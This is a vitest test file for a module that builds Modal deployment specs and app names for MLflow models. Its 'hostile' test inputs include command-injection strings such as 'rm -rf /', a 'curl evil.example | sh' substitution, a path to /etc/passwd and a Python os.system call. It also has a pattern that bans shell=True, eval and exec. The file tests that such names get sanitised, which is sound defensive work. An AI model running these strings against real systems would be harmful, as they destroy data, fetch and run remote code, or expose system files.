import { describe, expect, it } from "vitest";
import { ModalAppName, ModalConfig } from "../types";
import {
  InvalidAppNameError,
  MODAL_APP_TEMPLATE,
  buildModalAppSpec,
  defaultModalAppName,
  modalLabel,
  resolveModalAppName,
} from "./modal-app";

const MODAL_LABEL = /^(?![0-9]+$)(?!-)[a-z0-9-]{1,63}(?<!-)$/; // modal/_utils/name_utils.py subdomain_regex

describe("the Modal app template", () => {
  it("is fixed Python: no placeholders left, every per-deploy value read from deploy.json", () => {
    expect(MODAL_APP_TEMPLATE).not.toMatch(/\$\{|undefined|\[object/);
    expect(MODAL_APP_TEMPLATE).toContain('spec = json.loads(_spec_path.read_text(encoding="utf-8"))');
    for (const key of [
      "app_name",
      "label",
      "python_version",
      "mlflow_version",
      "requirements",
      "cpu",
      "memory_mb",
      "gpu",
      "min_containers",
      "scaledown_window_seconds",
      "startup_timeout_seconds",
      "function_timeout_seconds",
    ]) {
      expect(MODAL_APP_TEMPLATE).toContain(
        `spec["${key}"]`.replace('spec["mlflow_version"]', "spec['mlflow_version']"),
      );
    }
    expect(MODAL_APP_TEMPLATE).toContain('modal.App(spec["app_name"])');
    expect(MODAL_APP_TEMPLATE).toContain(
      '@modal.web_server(port=PORT, startup_timeout=spec["startup_timeout_seconds"], label=spec["label"])',
    );
    expect(MODAL_APP_TEMPLATE).toContain('.add_local_dir(_here / "model", MODEL_PATH, copy=True)');
    // The server starts from an argument list, never a shell.
    expect(MODAL_APP_TEMPLATE).toContain('subprocess.Popen(serve_argv(MODEL_PATH, "0.0.0.0", PORT))');
    expect(MODAL_APP_TEMPLATE).not.toMatch(/shell\s*=\s*True|os\.system|eval\(|exec\(/);
  });
});

describe("deploy.json", () => {
  it("carries the config and the model's facts, snake_case for Python", () => {
    const config = ModalConfig.parse({
      cpu: 2,
      memoryMb: 4096,
      gpu: "T4",
      minContainers: 1,
      scaledownWindowSeconds: 120,
    });
    const spec = buildModalAppSpec("mltrack-iris-3", config, {
      mlflowVersion: "3.18.0",
      pythonVersion: "3.11",
      requirements: ["scikit-learn==1.9.1", "numpy==2.4.6"],
    });
    expect(spec).toEqual({
      app_name: "mltrack-iris-3",
      label: "mltrack-iris-3",
      python_version: "3.11",
      mlflow_version: "3.18.0",
      requirements: ["scikit-learn==1.9.1", "numpy==2.4.6"],
      cpu: 2,
      memory_mb: 4096,
      gpu: "T4",
      min_containers: 1,
      scaledown_window_seconds: 120,
      startup_timeout_seconds: 300,
      function_timeout_seconds: 360,
    });
  });

  it("defaults: no GPU (null in JSON), scale to zero, the function outlasting the startup wait", () => {
    const spec = buildModalAppSpec("a", ModalConfig.parse({ startupTimeoutSeconds: 30 }), {
      mlflowVersion: "3.18.0",
      pythonVersion: null,
      requirements: [],
    });
    expect(JSON.parse(JSON.stringify(spec))).toMatchObject({
      gpu: null,
      python_version: null,
      min_containers: 0,
      cpu: 1,
      memory_mb: 2048,
    });
    expect(spec.function_timeout_seconds).toBeGreaterThan(spec.startup_timeout_seconds);
  });
});

describe("Modal app names", () => {
  const ID = "d-0a1b2c3d4e5f";
  it("default to mltrack-<model>-<version>-<deployment id>, one app per deployment", () => {
    expect(defaultModalAppName("iris", "3", ID)).toBe("mltrack-iris-3-0a1b2c");
    expect(defaultModalAppName("churn_model-v2", "12", ID)).toBe("mltrack-churn_model-v2-12-0a1b2c");
    expect(defaultModalAppName("iris", "3", "d-ffffff000000")).not.toBe(defaultModalAppName("iris", "3", ID));
  });

  const hostile = [
    '"; rm -rf / #',
    "$(curl evil.example | sh)",
    "../../etc/passwd",
    "__import__('os').system('id')",
    "name\nwith\nnewlines",
    "   ",
    "ñandú 模型 🚀",
    "-leading-dash",
    "a".repeat(500),
    "x".repeat(54),
    "ap-0123456789abcdefghijkl",
  ];
  it.each(hostile)("sanitise hostile model name %j to a valid Modal app name", (name) => {
    const app = defaultModalAppName(name, "7", ID);
    expect(ModalAppName.safeParse(app).success).toBe(true);
    expect(app.length).toBeLessThanOrEqual(63);
    expect(app).toMatch(/^mltrack-/);
    expect(app).toMatch(/-7-0a1b2c$/);
    expect(modalLabel(app)).toMatch(MODAL_LABEL);
  });

  it("keep two names that clean to the same text apart", () => {
    expect(defaultModalAppName("a b", "1", ID)).not.toBe(defaultModalAppName("a/b", "1", ID));
    expect(defaultModalAppName("a".repeat(80), "1", ID)).not.toBe(defaultModalAppName(`${"a".repeat(79)}b`, "1", ID));
  });

  it("reject a configured name that is not a Modal app name, keep a valid one", () => {
    expect(resolveModalAppName("iris", "1", ID, "my-app_2")).toBe("my-app_2");
    for (const bad of ["1abc", "-x", "a b", "a;b", "a".repeat(64), "", "ä"]) {
      expect(() => resolveModalAppName("iris", "1", ID, bad)).toThrow(InvalidAppNameError);
    }
  });

  it("give DNS labels Modal accepts", () => {
    expect(modalLabel("My_App__2")).toBe("my-app-2");
    expect(modalLabel("a--b")).toBe("a-b"); // `--` separates workspace and label in the URL
    expect(modalLabel("A".repeat(63))).toMatch(MODAL_LABEL);
    expect(modalLabel("x_-_")).toBe("x");
  });
});
